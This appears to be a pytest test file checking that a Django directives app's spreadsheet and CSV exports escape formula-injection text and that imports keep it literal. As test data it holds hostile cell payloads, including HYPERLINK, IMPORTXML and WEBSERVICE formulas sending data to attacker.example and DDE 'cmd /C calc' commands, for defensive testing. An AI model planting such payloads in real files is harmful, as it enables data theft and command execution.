"""Formula injection: a text a spreadsheet would evaluate is exported as text, and imported as text."""

import csv
import datetime
import io
import re
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from directives.models import Directive
from directives.reporting.exports import HEADERS
from directives.reporting.imports import import_directives

from .factories import AgencyFactory, DirectiveFactory, NoticeFactory, SessionFactory
from .reporting_helpers import NOW, read_xlsx, xlsx_file

XLSX = "/admin/directives/directive/export.xlsx"
CSV = "/admin/directives/directive/export.csv"
TEXT = HEADERS.index("Nội dung nhiệm vụ")
LEAD = HEADERS.index("Cơ quan chủ trì")
# Each trigger OWASP lists, before a payload that would call out or compute if evaluated.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ORDINARY = "- Bộ Công an chủ trì, phối hợp với các bộ, ngành"


@pytest.fixture
def frozen(time_machine):
    time_machine.move_to(NOW, tick=False)


@pytest.fixture
def hostile(db, frozen):
    """One directive per hostile text (written with update(), as any way in could store it), and one ordinary."""
    session = SessionFactory(held_on=datetime.date(2024, 7, 1))
    lead = AgencyFactory(name="=cmd|' /C calc'!A0")
    for n, text in enumerate([*HOSTILE, ORDINARY]):
        directive = DirectiveFactory(session=session, lead_agency=lead, due_date=datetime.date(2024, 9, 1 + n))
        Directive.objects.filter(pk=directive.pk).update(text=text)
    return lead


def assert_no_formula_in(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name


def same_text(read, written):
    # XML turns a bare CR into LF when the file is read back; either way the cell is text, not a formula.
    return read in (written, written.replace("\r\n", "\n").replace("\r", "\n"))


def check_xlsx(content):
    assert_no_formula_in(content)
    _preamble, header, rows, _sheet = read_xlsx(content)
    assert header == HEADERS
    by_text = {}
    for row in rows:
        assert row[TEXT].data_type == "s" and row[LEAD].data_type == "s"
        assert row[LEAD].value == "=cmd|' /C calc'!A0"
        by_text[row[TEXT].value] = row
    for text in HOSTILE:
        (row,) = [row for read, row in by_text.items() if same_text(read, text)]
        assert row[TEXT].quotePrefix  # Excel keeps it text even when the clerk edits the cell
    # Ordinary text is exactly as written: no quote, no change.
    assert by_text[ORDINARY][TEXT].value == ORDINARY
    # Numbers and dates stay numbers and dates.
    assert isinstance(by_text[ORDINARY][0].value, int)
    assert by_text[ORDINARY][HEADERS.index("Hạn xử lý")].value.date() == datetime.date(2024, 9, 7)
    return len(HOSTILE)


def check_csv(text):
    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    start = next(i for i, line in enumerate(lines) if line and line[0] == "STT")
    rows = lines[start + 1 :]
    texts = {row[TEXT] for row in rows}
    assert texts == {"'" + t for t in [*HOSTILE, ORDINARY]}
    assert {row[LEAD] for row in rows} == {"'=cmd|' /C calc'!A0"}
    for row in rows:
        assert row[0].isdigit() and re.fullmatch(r"\d\d/\d\d/2024", row[HEADERS.index("Hạn xử lý")])
    for line in lines:
        for cell in line:
            assert not cell or cell[0] not in "=+-@\t\r", cell


def test_admin_xlsx_export_writes_every_formula_like_text_as_a_string(hostile, clerk_client):
    response = clerk_client.get(XLSX)
    assert response.status_code == 200
    check_xlsx(response.content)


def test_admin_csv_export_puts_a_quote_before_every_formula_like_text(hostile, clerk_client):
    response = clerk_client.get(CSV)
    assert response.status_code == 200
    check_csv(response.content.decode("utf-8"))


def test_a_hostile_search_in_the_filters_is_written_as_text(hostile, clerk_client):
    # The preamble repeats the search words: they are the clerk's input too.
    xlsx = clerk_client.get(XLSX, {"q": "=1+1"})
    assert_no_formula_in(xlsx.content)
    preamble, *_ = read_xlsx(xlsx.content)
    assert any(line.endswith("=1+1") for line in preamble)
    lines = list(csv.reader(io.StringIO(clerk_client.get(CSV, {"q": "@x"}).content.decode().lstrip("\ufeff"))))
    assert all(not cell or cell[0] not in "=+-@\t\r" for line in lines for cell in line)


def test_export_directives_command_escapes_both_formats(hostile, tmp_path):
    out = tmp_path / "nhiem-vu.xlsx"
    call_command("export_directives", "--out", str(out), stdout=io.StringIO())
    check_xlsx(out.read_bytes())
    out_csv = tmp_path / "nhiem-vu.csv"
    call_command("export_directives", "--format", "csv", "--out", str(out_csv), stdout=io.StringIO())
    check_csv(out_csv.read_bytes().decode("utf-8"))


def test_dashboard_tables_write_a_hostile_agency_name_as_text(hostile, clerk_client):
    response = clerk_client.get(reverse("admin:dashboard_export", args=["all", "xlsx"]))
    assert response.status_code == 200
    assert_no_formula_in(response.content)
    workbook = load_workbook(io.BytesIO(response.content))
    names = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value == hostile.name]
    assert names and all(c.data_type == "s" for c in names)
    agencies = clerk_client.get(reverse("admin:dashboard_export", args=["agencies", "csv"])).content.decode()
    assert "'" + hostile.name in agencies
    assert "\n" + hostile.name not in agencies and "," + hostile.name not in agencies


def test_the_import_template_holds_no_formula(clerk_client):
    response = clerk_client.get("/admin/directives/directive/import/template.xlsx")
    assert_no_formula_in(response.content)


@pytest.mark.parametrize(
    "value,written",
    [("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("@a", "'@a"), ("-", "'-"), ("\tx", "'\tx"), ("\rx", "'\rx")],
)
def test_csv_cell_quotes_texts_but_not_numbers_or_dates(value, written):
    from directives.reporting.sheets import csv_cell

    assert csv_cell(value) == written
    assert csv_cell(-5) == "-5"
    assert csv_cell(datetime.date(2024, 1, 2)) == "02/01/2024"
    assert csv_cell("Bộ Công an") == "Bộ Công an"


@pytest.fixture
def notice(db):
    AgencyFactory(name="Bộ Công an", short_name="BCA")
    session = SessionFactory(held_on=datetime.date(2024, 7, 10))
    return NoticeFactory(number="243/TB-UBND", session=session, issued_on=datetime.date(2024, 7, 12))


def test_import_keeps_formula_like_texts_and_formula_cells_as_their_literal_text(notice):
    rows = [[str(n), text, "BCA", "", "", "", ""] for n, text in enumerate(["=1+1", "+1", "-1", "@A1"], start=1)]
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Mục", "Nội dung nhiệm vụ", "Cơ quan chủ trì"])
    for row in rows:
        sheet.append(row[:3])
        sheet.cell(row=sheet.max_row, column=2).data_type = "s"  # text cells, as a clerk types them behind a quote
    sheet.append(["5", '=HYPERLINK("http://attacker.example","x")', "BCA"])  # a real formula cell
    sheet.append(["6", "'=2+2", "BCA"])  # as our CSV export wrote it, reopened and saved as .xlsx
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as archive:  # the file really holds a formula and the texts
        assert b"<f>HYPERLINK" in archive.read("xl/worksheets/sheet1.xml")
    buffer.seek(0)
    result = import_directives(notice=notice, upload=buffer)
    assert result.ok, [str(e) for e in result.errors]
    assert dict(Directive.objects.values_list("item_number", "text")) == {
        "1": "=1+1",
        "2": "+1",
        "3": "-1",
        "4": "@A1",
        "5": '=HYPERLINK("http://attacker.example","x")',
        "6": "=2+2",
    }


def test_import_keeps_an_ordinary_text_exactly(notice):
    result = import_directives(notice=notice, upload=xlsx_file([["1", ORDINARY, "BCA", "", "", "", ""]]))
    assert result.ok and Directive.objects.get().text == ORDINARY


def test_a_control_character_in_a_text_does_not_break_the_xlsx_export(db, clerk_client, frozen):
    directive = DirectiveFactory(session=SessionFactory(held_on=datetime.date(2024, 7, 1)))
    Directive.objects.filter(pk=directive.pk).update(text="Báo cáo\x0b kết quả\x01")
    response = clerk_client.get(XLSX)
    assert response.status_code == 200
    _preamble, _header, rows, _sheet = read_xlsx(response.content)
    assert [r[TEXT].value for r in rows] == ["Báo cáo kết quả"]


SWEEP = [
    *HOSTILE,
    "=",
    "==1",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\0=1+1",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://attacker.example/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+thisIsNotAFormula",
    "-1",
    '@HYPERLINK("http://attacker.example")',
    "\t\t=1+1",
    "\r\n=1+1",
    "#REF!",
    "#N/A",
]


@pytest.mark.parametrize("payload", SWEEP)
def test_every_hostile_text_is_a_string_in_xlsx_and_quoted_in_csv(payload, frozen):
    from directives.reporting.sheets import Table, csv_cell, write_csv, write_xlsx

    table = Table(title="T", headers=["STT", payload], rows=[[1, payload]], filters=[("Tìm kiếm", payload)])
    buffer = io.BytesIO()
    write_xlsx([table], buffer)
    assert_no_formula_in(buffer.getvalue())
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type == "s" for c in cells if not isinstance(c.value, int))
    written = [c.value for c in cells if c.column == 2]
    expected = payload.replace("\0", "")
    assert written and all(same_text(v, expected) for v in written)
    table.rows = [[1, payload]]
    stream = io.StringIO()
    write_csv(table, stream)
    for line in csv.reader(io.StringIO(stream.getvalue().lstrip("\ufeff"))):
        assert all(not cell or cell[0] not in "=+-@\t\r\0" for cell in line), line
    assert csv_cell(payload) == "'" + payload or not payload.startswith(("=", "+", "-", "@", "\t", "\r", "\0"))
